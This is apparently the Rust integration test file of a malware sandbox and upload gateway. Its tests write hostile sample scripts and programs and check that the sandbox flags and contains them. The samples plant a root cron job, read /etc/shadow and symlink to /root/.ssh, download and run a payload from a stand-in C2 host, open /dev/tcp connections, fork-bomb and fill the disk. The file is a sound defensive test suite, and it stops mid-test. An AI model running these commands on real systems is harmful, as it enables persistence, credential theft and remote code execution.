//! `sekisho sandbox run` end to end: programs and scripts written or compiled at test time are
//! detonated by the real binary (bubblewrap, setpriv, prlimit, strace) and get the verdicts
//! and signatures their behaviour earns; runaway samples end at their bounds, nothing is
//! created outside scratch and no process outlives the task.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{bin, TempDir};

fn rules() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sandbox")
}

/// One detonation at a time: a test checks that no process of its sample is left, which
/// another test's running sample would confuse.
static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// Runs `sekisho sandbox run` on `file`; returns the exit code and the report, and whether
/// a process of the sample was left after it.
fn detonate(dir: &TempDir, file: &Path, timeout: u64) -> (i32, serde_json::Value) {
    let (code, report, _) = detonate_checked(dir, file, timeout);
    (code, report)
}

fn detonate_checked(dir: &TempDir, file: &Path, timeout: u64) -> (i32, serde_json::Value, bool) {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let out = Command::new(bin())
        .args(["sandbox", "run", "--rules"])
        .arg(rules())
        .arg("--work-dir")
        .arg(dir.path().join("work"))
        .args(["--timeout", &timeout.to_string()])
        .arg(file)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let report = serde_json::from_str(&text).unwrap_or_else(|e| {
        panic!(
            "{e}: {text}\nstderr: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (
        out.status.code().unwrap_or(-1),
        report,
        no_sample_processes(),
    )
}

fn write(dir: &TempDir, name: &str, text: &str) -> PathBuf {
    let p = dir.path().join(name);
    std::fs::write(&p, text).unwrap();
    p
}

fn hits(report: &serde_json::Value) -> Vec<String> {
    report["signatures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap().to_string())
        .collect()
}

/// No process runs the sample any more (the pid namespace ended with the task).
fn no_sample_processes() -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().all(|e| {
        std::fs::read(e.path().join("cmdline"))
            .map(|c| !String::from_utf8_lossy(&c).contains("/tmp/scratch/sample"))
            .unwrap_or(true)
    })
}

#[test]
fn a_script_that_persists_steals_and_downloads_is_malicious() {
    let dir = TempDir::new("sandbox-mal");
    let marker = format!("/tmp/sekisho-sandbox-escape-{}", std::process::id());
    let script = format!(
        "#!/bin/sh\n\
         echo '* * * * * root sh' > /etc/cron.d/sekisho-test\n\
         cat /etc/shadow\n\
         getent hosts c2.evil.example\n\
         python3 -c 'import socket; s=socket.socket(); s.settimeout(1); s.connect_ex((\"198.51.100.7\", 4444))'\n\
         wget -q -O payload http://198.51.100.7/p || printf '#!/bin/sh\\necho pwned\\n' > payload\n\
         chmod +x payload\n\
         ./payload\n\
         ln -s /etc escape && echo x > escape/sekisho-test\n\
         echo x > {marker}\n\
         cat {manifest} > leaked.txt\n",
        manifest = Path::new(env!("CARGO_MANIFEST_DIR")).join("Cargo.toml").display()
    );
    let file = write(&dir, "dropper.sh", &script);
    let (code, r) = detonate(&dir, &file, 20);
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(r["verdict"], "malicious", "{r:#}");
    assert_eq!(r["score"], 10);
    assert_eq!(r["file_type"], "sh");
    let ids = hits(&r);
    for want in [
        "persistence.cron",
        "credentials.system_passwords",
        "network.outbound_connect",
        "network.dns_lookup",
        "execution.downloader_spawned",
        "execution.dropped_file_run",
        "filesystem.write_outside_scratch",
    ] {
        assert!(ids.iter().any(|i| i == want), "{want} missing: {ids:?}");
    }
    assert_eq!(r["dns"][0], "c2.evil.example");
    let net: Vec<&str> = r["network"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["addr"].as_str().unwrap())
        .collect();
    assert!(net.contains(&"198.51.100.7:4444"), "{net:?}");
    let dropped: Vec<&str> = r["files_dropped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(dropped.contains(&"/tmp/scratch/payload"), "{dropped:?}");
    assert_eq!(r["files_dropped"][0]["sha256"].as_str().unwrap().len(), 64);
    let programs: Vec<String> = r["processes"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|p| p["exec"].as_array().unwrap().clone())
        .map(|e| e.as_str().unwrap().to_string())
        .collect();
    assert!(
        programs
            .iter()
            .any(|p| p.starts_with("/usr/bin/cat /etc/shadow")),
        "{programs:?}"
    );
    assert!(!Path::new("/etc/cron.d/sekisho-test").exists());
    assert!(!Path::new("/etc/sekisho-test").exists());
    assert!(
        !Path::new(&marker).exists(),
        "the sandbox's /tmp is its own"
    );
    let leaked = r["files_dropped"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/tmp/scratch/leaked.txt")
        .unwrap_or_else(|| panic!("{r:#}"));
    assert_eq!(
        leaked["size"], 0,
        "the host's other files are not in the sandbox"
    );
    assert!(
        std::fs::read_dir(dir.path().join("work"))
            .unwrap()
            .next()
            .is_none(),
        "the task folder is removed"
    );
}

/// The sandbox's make-believe network: a name resolves to an address of its own, any address
/// reaches the sinkhole, which records what the sample sends and answers HTTP; a namespace
/// call is refused with SIGSYS and named; the sample cannot signal the sandbox's first process
/// (another uid), so the network still answers after `kill -9 -1`.
#[test]
fn the_network_is_make_believe_and_escapes_are_refused() {
    let dir = TempDir::new("sandbox-net");
    let script = "#!/bin/bash\n\
        exec 3<>/dev/tcp/updates.example.test/80\n\
        printf 'GET /stage2.sh HTTP/1.1\\r\\nHost: updates.example.test\\r\\n\\r\\n' >&3\n\
        cat <&3 > stage2.sh\n\
        exec 4<>/dev/tcp/203.0.113.9/4444; printf 'hello c2' >&4; exec 4<&-\n\
        unshare -U true\n\
        kill -9 -1\n\
        exec 5<>/dev/tcp/after.example.test/8080\n\
        printf 'GET /after HTTP/1.0\\r\\nHost: after.example.test\\r\\n\\r\\n' >&5\n\
        cat <&5 > after.txt\n";
    let file = write(&dir, "net.sh", script);
    let (_, r, none_left) = detonate_checked(&dir, &file, 20);
    assert!(none_left, "a process of the sample outlived its task");
    let conns = r["connections"].as_array().unwrap();
    let find = |dst: &str| {
        conns
            .iter()
            .find(|c| c["dst"] == dst)
            .unwrap_or_else(|| panic!("no connection to {dst}: {r:#}"))
    };
    let web = find("198.18.0.1:80");
    assert_eq!(web["protocol"], "http");
    assert_eq!(web["name"], "updates.example.test");
    assert_eq!(web["request"], "GET http://updates.example.test/stage2.sh");
    let c2 = find("203.0.113.9:4444");
    assert_eq!(c2["protocol"], "data");
    assert_eq!(c2["first_bytes"], "hello c2");
    let ids = hits(&r);
    for want in [
        "network.outbound_connect",
        "network.http_request",
        "network.executable_download",
        "privilege.namespace",
    ] {
        assert!(ids.iter().any(|i| i == want), "{want} missing: {ids:?}");
    }
    assert_eq!(r["confinement"]["seccomp"], true, "{r:#}");
    assert_eq!(r["confinement"]["any_address"], true, "{r:#}");
    assert_ne!(r["confinement"]["landlock"], "none", "{r:#}");
    // `kill -9 -1` could not reach the sandbox's first process.
    let after = find("198.18.0.2:8080");
    assert_eq!(after["request"], "GET http://after.example.test/after");
    assert!(r["dns"]
        .as_array()
        .unwrap()
        .iter()
        .any(|d| d == "updates.example.test"));
    let stage2 = r["files_dropped"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/tmp/scratch/stage2.sh")
        .unwrap_or_else(|| panic!("{r:#}"));
    assert!(stage2["size"].as_u64().unwrap() > 40, "{r:#}");
}

/// The sandbox's first process refuses to run outside a network namespace of its own (its
/// routes would take over the host's network): checked in a namespace of the test's own that
/// holds a veth pair, so the host is never at stake.
#[test]
fn the_first_process_refuses_a_network_namespace_that_is_not_its_own() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: needs root for a network namespace with a veth pair");
        return;
    }
    let script = format!(
        "ip link add sekisho0 type veth peer name sekisho1 && {} sandbox init -- /bin/true; echo \"rc=$?\"; \
         ip route show table local | grep -c '^local default' || true",
        bin()
    );
    let out = Command::new("unshare")
        .args(["--net", "sh", "-c", &script])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("rc=125"), "{text} {err}");
    assert!(text.trim_end().ends_with('0'), "a route was added: {text}");
    assert!(
        err.contains("not in a sandbox's own network namespace"),
        "{err}"
    );
}

/// Fail closed: a sandbox whose first process never runs the sample confined gives an error,
/// never a clean report.
#[test]
fn a_sandbox_that_cannot_confine_the_sample_gives_no_verdict() {
    use sekisho_sandbox::{Limits, Rules, Sandbox, SandboxError, Tools};
    let dir = TempDir::new("sandbox-noinit");
    let sandbox = Sandbox {
        tools: Tools {
            helper: "/usr/bin/true".into(),
            ..Tools::default()
        },
        limits: Limits::default(),
        work_dir: dir.path().join("work"),
        keep: false,
        hidden: Vec::new(),
    };
    let rules = Rules::load(&[rules()]).unwrap();
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let err = sandbox
        .analyze(b"#!/bin/sh\necho hello\n", &rules)
        .unwrap_err();
    assert!(matches!(err, SandboxError::Setup(_)), "{err}");
}

#[test]
fn a_program_that_forks_in_a_loop_is_stopped_and_malicious() {
    let dir = TempDir::new("sandbox-fork");
    let src = write(
        &dir,
        "forker.c",
        "#include <unistd.h>\nint main(void){for(int i=0;i<100000;i++){if(fork()==0){sleep(30);_exit(0);}}return 0;}\n",
    );
    let exe = dir.path().join("forker");
    let cc = Command::new("cc")
        .arg(&src)
        .arg("-o")
        .arg(&exe)
        .status()
        .unwrap();
    assert!(cc.success());
    let started = std::time::Instant::now();
    let (code, r, none_left) = detonate_checked(&dir, &exe, 10);
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(r["file_type"], "elf");
    assert_eq!(r["verdict"], "malicious", "{r:#}");
    assert!(
        hits(&r).contains(&"resources.fork_bomb".to_string()),
        "{:?}",
        hits(&r)
    );
    assert!(none_left, "a process of the sample outlived its task");
}

/// Links are traced: one to the password hashes (read under another name, so no open of
/// /etc/shadow is seen), one out of scratch by a relative target, one made outside scratch.
#[test]
fn links_to_secrets_and_out_of_scratch_are_signatures() {
    let dir = TempDir::new("sandbox-links");
    let script = "#!/bin/sh\nln -s /etc/shadow s\ncat s\nmkdir -p a/b\n\
                  ln -s ../../../../root/.ssh a/b/k\nln -s /etc/hosts /etc/cron.d/x\n\
                  ln -s /etc/hosts /run/h\ntrue\n";
    let file = write(&dir, "links.sh", script);
    let (_, r, none_left) = detonate_checked(&dir, &file, 20);
    assert!(none_left, "a process of the sample outlived its task");
    let ids = hits(&r);
    for want in [
        "credentials.link_to_secret",
        "evasion.link_out_of_scratch",
        "filesystem.link_outside_scratch",
    ] {
        assert!(ids.iter().any(|i| i == want), "{want} missing: {r:#}");
    }
    let secret = r["signatures"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "credentials.link_to_secret")
        .unwrap();
    let evidence = secret["evidence"].to_string();
    assert!(
        evidence.contains("/tmp/scratch/s -> /etc/shadow"),
        "{secret}"
    );
    assert!(
        evidence.contains("/tmp/scratch/a/b/k -> /root/.ssh"),
        "{secret}"
    );
    assert_ne!(r["verdict"], "clean", "{r:#}");
}

#[test]
fn a_build_like_tool_writing_in_scratch_is_clean() {
    let dir = TempDir::new("sandbox-benign");
    let script = "#!/bin/bash\nset -e\nmkdir -p build/obj\n\
                  for i in $(seq 1 40); do printf 'int f%d(void){return %d;}\\n' $i $i > build/obj/f$i.c; done\n\
                  cat build/obj/*.c > build/all.c\nsed -i 's/return/  return/' build/all.c\n\
                  wc -l build/all.c\nls build/obj | sort > build/manifest.txt\n\
                  ln -s build/all.c latest.c\nln build/manifest.txt manifest.txt\n\
                  mkdir -p \"$HOME/.ssh\"\nln -s \"$HOME/.ssh\" keys\n\
                  ln -s /etc/ssl/certs/ca-certificates.crt ca.crt\n";
    let file = write(&dir, "build.sh", script);
    let (code, r) = detonate(&dir, &file, 20);
    assert_eq!(code, 0, "{r:#}");
    assert_eq!(r["verdict"], "clean", "{r:#}");
    assert!(r["score"].as_u64().unwrap() < 4);
    assert_eq!(r["file_type"], "bash");
    assert!(r["files_dropped"].as_array().unwrap().len() >= 42, "{r:#}");
    assert!(r["output"].as_str().unwrap().contains("40 build/all.c"));
}

#[test]
fn runaway_samples_end_at_the_deadline_with_bounded_output() {
    let dir = TempDir::new("sandbox-runaway");
    let file = write(
        &dir,
        "spin.py",
        "import time, sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n    time.sleep(0.001)\n",
    );
    let started = std::time::Instant::now();
    let (_, r, none_left) = detonate_checked(&dir, &file, 3);
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert_eq!(r["file_type"], "python");
    assert_eq!(r["timed_out"], true, "{r:#}");
    assert!(hits(&r).contains(&"evasion.ran_until_deadline".to_string()));
    assert!(r["output"].as_str().unwrap().len() <= 32 * 1024);
    assert!(none_left, "a process of the sample outlived its task");
}

/// A sample that fills its scratch folder (on the host's disk) is stopped at the folder's bound
/// (256 MiB), the report says so, and the task folder is removed.
#[test]
fn a_sample_that_fills_scratch_is_stopped_at_its_bound() {
    let dir = TempDir::new("sandbox-fill");
    let file = write(
        &dir,
        "fill.sh",
        "#!/bin/sh\nfor i in 1 2 3 4 5 6 7 8; do head -c 62914560 /dev/zero > fill$i; done\nsleep 20\n",
    );
    let started = std::time::Instant::now();
    let (_, r, none_left) = detonate_checked(&dir, &file, 25);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{r:#}"
    );
    assert_eq!(r["scratch_full"], true, "{r:#}");
    assert_eq!(r["timed_out"], false, "{r:#}");
    assert!(none_left, "a process of the sample outlived its task");
    assert!(
        std::fs::read_dir(dir.path().join("work"))
            .unwrap()
            .next()
            .is_none(),
        "the task folder is removed"
    );
}

/// An ELF program for another machine never runs: no verdict (an error), never a clean report
/// of nothing observed.
#[test]
fn a_program_that_never_runs_gets_no_verdict() {
    let dir = TempDir::new("sandbox-arm");
    let mut elf = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0];
    elf.extend([0u8; 8]);
    elf.extend([2, 0, 0xb7, 0, 1, 0, 0, 0]); // executable, aarch64, version 1
    elf.resize(128, 0);
    let file = dir.path().join("arm.elf");
    std::fs::write(&file, &elf).unwrap();
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let out = Command::new(bin())
        .args(["sandbox", "run", "--rules"])
        .arg(rules())
        .arg("--work-dir")
        .arg(dir.path().join("work"))
        .arg(&file)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("never started"), "{err}");
}

#[test]
fn other_types_are_reported_not_detonated() {
    let dir = TempDir::new("sandbox-static");
    let file = write(&dir, "doc.pdf", "%PDF-1.7\n1 0 obj\n<<>>\nendobj\n");
    let (code, r) = detonate(&dir, &file, 5);
    assert_eq!(code, 0);
    assert_eq!(r["verdict"], "not_detonated");
    assert_eq!(r["file_type"], "pdf");
    assert!(r["not_detonated"].as_str().unwrap().contains("static"));
}

#[test]
fn broken_behaviour_rules_name_file_and_line() {
    let dir = TempDir::new("sandbox-rules");
    let rules = write(
        &dir,
        "bad.toml",
        "[[signature]]\nid = \"ok\"\ndescription = \"d\"\nweight = 2\nevent = \"open\"\n\n[[signature]]\nid = \"bad\"\ndescription = \"d\"\nweight = 2\nevent = \"open\"\npath = \"([\"\n",
    );
    let sample = write(&dir, "s.sh", "#!/bin/sh\ntrue\n");
    let out = Command::new(bin())
        .args(["sandbox", "run", "--rules"])
        .arg(&rules)
        .arg(&sample)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:8: signature bad: path"), "{err}");
    // `rules check` finds rules/sandbox beside the config.
    std::fs::create_dir_all(dir.path().join("rules/sandbox")).unwrap();
    std::fs::copy(&rules, dir.path().join("rules/sandbox/bad.toml")).unwrap();
    let config = write(
        &dir,
        "gw.toml",
        "[[listener]]\nname = \"p\"\nkind = \"forward\"\naddr = \"127.0.0.1:0\"\n",
    );
    let out = Command::new(bin())
        .args(["rules", "check", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("bad.toml:8: signature bad: path"), "{text}");
}

/// `curl` against the worker: (status, body).
fn call(args: &[&str]) -> (u16, String) {
    let out = Command::new("curl")
        .args(["-s", "-m", "20", "-w", "\n%{http_code}"])
        .args(args)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

/// The worker end to end: a submitted file is queued and detonated once; the same file again
/// is answered from the verdict cache without a detonation; a full queue refuses with 503;
/// health and metrics answer.
#[test]
fn the_worker_queues_detonates_and_answers_again_from_its_cache() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("sandbox-serve");
    let (worker, addr) = start_worker(&dir, "slots = 1\nqueue = 1\ntimeout_secs = 5\n");
    let url = |p: &str| format!("http://{addr}{p}");
    assert_eq!(call(&[&url("/healthz")]).0, 200);

    let sample = write(
        &dir,
        "steal.sh",
        "#!/bin/sh\ncat /etc/shadow\necho '* * * * * x' > /etc/cron.d/y\n",
    );
    let data = format!("@{}", sample.display());
    let (code, body) = call(&["--data-binary", &data, &url("/tasks")]);
    assert_eq!(code, 202, "{body}");
    let task: serde_json::Value = serde_json::from_str(&body).unwrap();
    let id = task["task"].as_str().unwrap().to_string();
    let mut done = serde_json::Value::Null;
    for _ in 0..200 {
        let (_, body) = call(&[&url(&format!("/tasks/{id}"))]);
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        if v["status"] == "done" {
            done = v;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(done["report"]["verdict"], "malicious", "{done:#}");
    assert_eq!(done["cached"], false);

    let (code, body) = call(&["--data-binary", &data, &url("/tasks")]);
    assert_eq!(code, 200, "{body}");
    let again: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(again["cached"], true);
    assert_eq!(again["report"]["sha256"], done["report"]["sha256"]);

    // One slot, one place in the queue: of four slow files submitted at once, one runs, one
    // waits, and the rest are refused.
    let codes: Vec<u16> = (0..4)
        .map(|i| {
            let slow = write(
                &dir,
                &format!("slow{i}.sh"),
                &format!("#!/bin/sh\nsleep 2\necho {i}\n"),
            );
            call(&[
                "--data-binary",
                &format!("@{}", slow.display()),
                &url("/tasks"),
            ])
            .0
        })
        .collect();
    assert_eq!(codes[0], 202, "{codes:?}");
    assert!(codes.contains(&503), "{codes:?}");

    let (_, metrics) = call(&[&url("/metrics")]);
    assert!(
        metrics.contains("sekisho_sandbox_tasks_total{outcome=\"cached\"} 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains("sekisho_sandbox_verdicts_total{verdict=\"malicious\"} 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains("sekisho_sandbox_tasks_total{outcome=\"rejected\"}"),
        "{metrics}"
    );
    assert_eq!(call(&[&url("/tasks/nope")]).0, 404);
    drop(worker);
}

/// A running worker, stopped when dropped (a failing test leaves no process behind).
struct Worker(std::process::Child);

impl Drop for Worker {
    fn drop(&mut self) {
        let _ = Command::new("kill").arg(self.0.id().to_string()).status();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
        while std::time::Instant::now() < deadline {
            if let Ok(Some(_)) = self.0.try_wait() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Starts `sekisho sandbox serve` on a config of `[sandbox]` lines; returns it and its address.
fn start_worker(dir: &TempDir, extra: &str) -> (Worker, String) {
    start_worker_with(dir, &rules(), extra)
}

/// [`start_worker`] with the behaviour rules at `rules`.
fn start_worker_with(dir: &TempDir, rules: &Path, extra: &str) -> (Worker, String) {
    start_worker_on(dir, rules, "127.0.0.1:0", extra)
}

/// [`start_worker`] on a given address (a worker restarted where the gateway knows it).
fn start_worker_listening(dir: &TempDir, listen: &str, extra: &str) -> (Worker, String) {
    start_worker_on(dir, &rules(), listen, extra)
}

fn start_worker_on(dir: &TempDir, rules: &Path, listen: &str, extra: &str) -> (Worker, String) {
    use std::io::BufRead;
    let config = write(
        dir,
        "worker.toml",
        &format!(
            "[sandbox]\nlisten = {listen:?}\nrules = [{:?}]\nwork_dir = {:?}\n{extra}",
            rules.display().to_string(),
            dir.path().join("work").display().to_string()
        ),
    );
    let mut worker = Command::new(bin())
        .args(["sandbox", "serve", "--config"])
        .arg(&config)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(worker.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let addr = line.trim().strip_prefix("listening ").unwrap().to_string();
    (Worker(worker), addr)
}

/// Submits `file` to the worker at `addr` and waits for its report (or the cached one).
fn report_of(addr: &str, file: &Path) -> serde_json::Value {
    let data = format!("@{}", file.display());
    let (code, body) = call(&["--data-binary", &data, &format!("http://{addr}/tasks")]);
    let answer: serde_json::Value = serde_json::from_str(&body).unwrap();
    if code == 200 {
        return answer["report"].clone();
    }
    assert_eq!(code, 202, "{body}");
    let id = answer["task"].as_str().unwrap();
    for _ in 0..300 {
        let (_, body) = call(&[&format!("http://{addr}/tasks/{id}")]);
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        if v["status"] == "done" {
            return v["report"].clone();
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    panic!("no report for {}", file.display());
}

/// Waits until the worker's metrics hold `line`.
fn wait_metric(addr: &str, line: &str) {
    for _ in 0..200 {
        if call(&[&format!("http://{addr}/metrics")]).1.contains(line) {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    panic!("metrics never held {line}");
}

/// SIGHUP reads the worker's behaviour rules again: a signature added applies to the next
/// submission of a file already judged (the cache is keyed by the rules' version); a broken
/// set is refused and the rules in use stay.
#[test]
fn the_worker_reloads_its_rules_on_sighup() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("sandbox-reload");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    let signature = |id: &str, weight: u8, path: &str| {
        format!(
            "[[signature]]\nid = \"{id}\"\ndescription = \"d\"\nweight = {weight}\n\
             event = \"open\"\nwrite = true\npath = '{path}'\n\n"
        )
    };
    std::fs::write(rules.join("a.toml"), signature("t.never", 1, "^/nowhere$")).unwrap();
    let (worker, addr) = start_worker_with(&dir, &rules, "slots = 1\ntimeout_secs = 5\n");
    let sample = write(&dir, "mark.sh", "#!/bin/sh\necho hi > marked.txt\n");
    assert_eq!(report_of(&addr, &sample)["verdict"], "clean");
    let more = signature("t.marker", 8, "marked\\.txt$");
    std::fs::write(rules.join("b.toml"), &more).unwrap();
    let hup = |w: &Worker| {
        let ok = Command::new("kill")
            .args(["-HUP", &w.0.id().to_string()])
            .status()
            .unwrap();
        assert!(ok.success());
    };
    hup(&worker);
    wait_metric(
        &addr,
        "sekisho_sandbox_rule_reloads_total{outcome=\"ok\"} 1",
    );
    let r = report_of(&addr, &sample);
    assert_eq!(r["verdict"], "malicious", "{r:#}");
    assert!(hits(&r).contains(&"t.marker".to_string()));
    std::fs::write(rules.join("c.toml"), "[[signature]]\nid = \"t.bad\"\n").unwrap();
    hup(&worker);
    wait_metric(
        &addr,
        "sekisho_sandbox_rule_reloads_total{outcome=\"refused\"} 1",
    );
    assert_eq!(report_of(&addr, &sample)["verdict"], "malicious");
    drop(worker);
}

/// Uploads `file` through the gateway to the origin's byte counter: "COUNT\nSTATUS".
async fn upload(gw: &common::Gateway, origin: u16, file: &Path) -> String {
    let url = format!("http://127.0.0.1:{origin}/count");
    common::upload(gw, &url, file).await.stdout
}

/// The AV stage's hand-off: an uploaded script the signatures pass is held for the worker's
/// verdict and blocked when malicious (it never reaches the origin), delivered when clean;
/// the same file again is judged from the worker's cache; a malicious script inside a zip is
/// submitted on its own and blocks the upload; no verdict in time delivers with an
/// `uninspected` event (`on_timeout = "alert"`), and the verdict that comes later is a
/// `Sandbox.LateMalicious` event of the same flow.
// The lock only orders this file's tests (each on its own runtime); no task of this runtime
// takes it, so holding it across the awaits cannot deadlock.
#[allow(clippy::await_holding_lock)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_held_for_the_sandbox_verdict() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("sandbox-handoff");
    let (worker, addr) = start_worker(&dir, "slots = 2\ntimeout_secs = 6\n");
    let origin = common::Origin::start(None).await;
    let av = format!(
        "[av]\nyara = []\nclamav = []\ncache_dir = \"\"\n\
         [av.sandbox]\nurl = \"http://{addr}\"\nhold_timeout_secs = 3\n"
    );
    let mut gw = common::Gateway::start("sandbox-handoff", "", &av);
    let bad = write(
        &dir,
        "bad.sh",
        "#!/bin/sh\ncat /etc/shadow\necho '* * * * * x' > /etc/cron.d/z\n",
    );
    let good = write(&dir, "good.sh", "#!/bin/sh\necho hello > out.txt\n");
    let slow = write(
        &dir,
        "slow.sh",
        "#!/bin/sh\nsleep 4\ncat /etc/shadow\necho '* * * * * x' > /etc/cron.d/late\n",
    );
    let r = upload(&gw, origin.port, &bad).await;
    assert!(r.ends_with("\n403"), "malicious upload: {r}");
    let ev = gw.wait_line("events.jsonl", |v| v["rule"]["id"] == "Sandbox.Malicious");
    assert_eq!(ev["rule"]["engine"], "sandbox", "{ev}");
    assert_eq!(ev["sandbox"]["verdict"], "malicious", "{ev}");
    assert_eq!(ev["sandbox"]["score"], 10, "{ev}");
    assert_eq!(ev["sandbox"]["late"], false, "{ev}");
    let sigs = ev["sandbox"]["signatures"].as_array().unwrap();
    assert!(sigs.iter().any(|s| s == "persistence.cron"), "{ev}");
    assert_eq!(ev["evidence"]["location"], "request.body");
    assert!(
        ev["evidence"]["excerpt"]
            .as_str()
            .unwrap_or("")
            .contains("persistence.cron"),
        "{ev}"
    );
    let size = std::fs::metadata(&good).unwrap().len();
    assert_eq!(
        upload(&gw, origin.port, &good).await,
        format!("{size}\n200")
    );
    let started = std::time::Instant::now();
    let r = upload(&gw, origin.port, &bad).await;
    assert!(r.ends_with("\n403"), "again: {r}");
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
    // A program inside an archive is submitted on its own, named by where it was found.
    let tools = dir.path().join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    std::fs::write(
        tools.join("install.sh"),
        "#!/bin/sh\n# installer\ncat /etc/shadow\necho '* * * * * x' > /etc/cron.d/z\n",
    )
    .unwrap();
    std::fs::write(tools.join("README.txt"), "read me\n").unwrap();
    let zipped = Command::new("zip")
        .current_dir(dir.path())
        .args(["-q", "-r", "tools.zip", "tools"])
        .status()
        .unwrap();
    assert!(zipped.success());
    let r = upload(&gw, origin.port, &dir.path().join("tools.zip")).await;
    assert!(
        r.ends_with("\n403"),
        "an archive holding a malicious script: {r}"
    );
    let ev = gw.wait_line("events.jsonl", |v| {
        v["rule"]["id"] == "Sandbox.Malicious"
            && v["evidence"]["location"]
                .as_str()
                .is_some_and(|l| l.contains("install.sh"))
    });
    let location = ev["evidence"]["location"].as_str().unwrap();
    assert!(location.starts_with("request.body > "), "{ev}");
    let size = std::fs::metadata(&slow).unwrap().len();
    assert_eq!(
        upload(&gw, origin.port, &slow).await,
        format!("{size}\n200")
    );
    let ev = gw.wait_line("events.jsonl", |v| v["rule"]["id"] == "Sandbox.NoVerdict");
    assert_eq!(ev["event"]["category"], "uninspected", "{ev}");
    // Its verdict comes after the flow was delivered: a late event of the same flow, naming
    // the client and the file.
    let late = gw.wait_line("events.jsonl", |v| {
        v["rule"]["id"] == "Sandbox.LateMalicious"
    });
    assert_eq!(late["flow_id"], ev["flow_id"], "{late}");
    assert_eq!(late["source"]["ip"], "127.0.0.1", "{late}");
    assert_eq!(late["event"]["action"], "allowed", "{late}");
    assert_eq!(late["sandbox"]["verdict"], "malicious", "{late}");
    assert_eq!(late["sandbox"]["late"], true, "{late}");
    assert_eq!(ev["sandbox"]["verdict"], "none", "{ev}");
    assert_eq!(late["stage"], "av", "{late}");
    assert_eq!(late["file"]["sha256"], ev["file"]["sha256"], "{late}");
    assert!(
        late["file"]["sha256"].as_str().unwrap_or("").len() == 64,
        "{late}"
    );
    let (_, metrics) = call(&[&format!("http://{addr}/metrics")]);
    assert!(
        metrics.contains("sekisho_sandbox_tasks_total{outcome=\"cached\"} 1"),
        "{metrics}"
    );
    // A follow the worker can no longer answer (it restarted, on the same address, and
    // forgot the task) ends in an event instead of silence.
    let slower = write(
        &dir,
        "slower.sh",
        "#!/bin/sh\nsleep 5\necho done > out.txt\n",
    );
    let size = std::fs::metadata(&slower).unwrap().len();
    assert_eq!(
        upload(&gw, origin.port, &slower).await,
        format!("{size}\n200")
    );
    let unjudged = gw.wait_line("events.jsonl", |v| {
        v["rule"]["id"] == "Sandbox.NoVerdict" && v["file"]["sha256"] != ev["file"]["sha256"]
    });
    drop(worker);
    let (worker, again) = start_worker_listening(&dir, &addr, "slots = 2\ntimeout_secs = 6\n");
    assert_eq!(again, addr);
    let lost = gw.wait_line("events.jsonl", |v| v["rule"]["id"] == "Sandbox.LateLost");
    assert_eq!(lost["flow_id"], unjudged["flow_id"], "{lost}");
